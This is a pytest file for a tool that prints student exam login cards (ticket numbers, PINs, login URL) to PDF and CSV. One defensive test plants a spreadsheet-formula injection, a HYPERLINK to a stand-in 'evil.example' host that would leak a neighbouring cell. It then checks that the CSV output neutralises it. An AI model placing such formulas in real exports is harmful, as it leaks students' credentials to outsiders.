from __future__ import annotations

import io
from pathlib import Path

from pypdf import PdfReader

from assess.registration import IssuedTicket
from reports.tickets import CARDS_PER_PAGE, TICKET_CSV_COLUMNS, render_tickets, tickets_csv, write_tickets

URL = "https://infolit.example.edu.cn/login"


def cards(n: int = 25, *, pins: bool = True) -> list[IssuedTicket]:
    """``n`` cards in two classes of one school (12 in 4年级 1班, the rest in 8年级 2班), shuffled."""
    out = [
        IssuedTicket(
            student_code=f"G4403{k:06d}",
            school_code="4403050001",
            school_name="南山实验学校",
            grade=4 if k < 12 else 8,
            class_name="1班" if k < 12 else "2班",
            ticket=f"{3141592653 + 7919 * k}",
            pin=f"{271828 + 37 * k}" if pins else None,
        )
        for k in range(n)
    ]
    return out[::2] + out[1::2]


def pages_text(pdf: bytes) -> list[str]:
    assert pdf.startswith(b"%PDF-")
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


def test_every_ticket_and_pin_is_printed() -> None:
    deck = cards()
    text = "\n".join(pages_text(render_tickets(deck, login_url=URL)))
    for card in deck:
        assert card.ticket in text and card.pin is not None and card.pin in text and card.student_code in text
    assert text.count(URL) == len(deck)
    for words in ("准考证号", "PIN", "南山实验学校", "4年级 1班", "8年级 2班", "登录网址", "请勿把PIN码告诉他人"):
        assert words in text


def test_ten_cards_a_page_and_each_class_on_its_own_pages() -> None:
    deck = cards()
    per_class = pages_text(render_tickets(deck, login_url=URL))
    assert CARDS_PER_PAGE == 10
    assert len(per_class) == 4  # 12 cards -> 2 pages, 13 cards -> 2 pages
    assert all("4年级 1班" in p for p in per_class[:2]) and all("8年级 2班" in p for p in per_class[2:])
    assert "第 1/4 页" in per_class[0] and "沿虚线剪开" in per_class[0]
    first_page = [c for c in deck if c.ticket in per_class[0]]
    assert sorted(c.student_code for c in first_page) == [f"G4403{k:06d}" for k in range(10)]
    together = pages_text(render_tickets(deck, login_url=URL, page_per_class=False))
    assert len(together) == 3


def test_cards_without_pins_leave_the_line_blank() -> None:
    deck = cards(3, pins=False)
    text = pages_text(render_tickets(deck, login_url=URL, title="2025年春季测评"))[0]
    assert text.count("未保存，见注册时发放的名单") == 3
    assert "2025年春季测评" in text and all(c.ticket in text for c in deck)


def test_long_names_and_urls_fit_and_an_empty_deck_prints_a_note() -> None:
    name = "某某市某某区第一实验学校附属小学教育集团东校区（分部）"
    long = IssuedTicket("P1", "S1", name, 12, "高三（15）班实验班", "1234567897", "123456")
    text = pages_text(render_tickets([long], login_url="https://" + "very-long-host." * 8 + "cn/login"))[0]
    assert "1234567897" in text and "123456" in text and "…" in text
    assert "没有需要打印的准考证" in pages_text(render_tickets([], login_url=URL))[0]


def test_invariant_output_is_byte_identical() -> None:
    deck = cards(5)
    assert render_tickets(deck, login_url=URL, invariant=True) == render_tickets(deck, login_url=URL, invariant=True)


def test_csv_lists_the_same_cards_in_order(tmp_path: Path) -> None:
    deck = cards(13)
    raw = tickets_csv(deck, login_url=URL)
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ",".join(TICKET_CSV_COLUMNS)
    body = [line.split(",") for line in lines[1:] if line]
    assert [r[4] for r in body] == sorted(c.student_code for c in deck)
    first = min(deck, key=lambda c: c.student_code)
    assert body[0] == ["4403050001", "南山实验学校", "4", "1班", first.student_code, first.ticket, first.pin, URL]
    assert write_tickets(tmp_path / "t.csv", deck, login_url=URL).read_bytes() == raw
    assert write_tickets(tmp_path / "t.pdf", deck, login_url=URL).read_bytes().startswith(b"%PDF-")


def test_csv_neutralises_formula_names_and_files_are_private(tmp_path: Path) -> None:
    import csv as csvlib
    import stat

    from itembank.tabular import restore_cell

    evil = IssuedTicket(
        "P1", "S1", '=HYPERLINK("http://evil.example/?"&F2,"点此")', 4, "@SUM(1+1)", "1234567897", "271828"
    )
    raw = tickets_csv([evil], login_url=URL)
    row = list(csvlib.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1]
    assert row[1] == "'" + evil.school_name and row[3] == "'@SUM(1+1)"
    assert restore_cell(row[1]) == evil.school_name and row[6] == "271828"
    for name in ("t.csv", "t.pdf"):
        path = write_tickets(tmp_path / name, [evil], login_url=URL)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert not (tmp_path / f"{name}.part").exists()
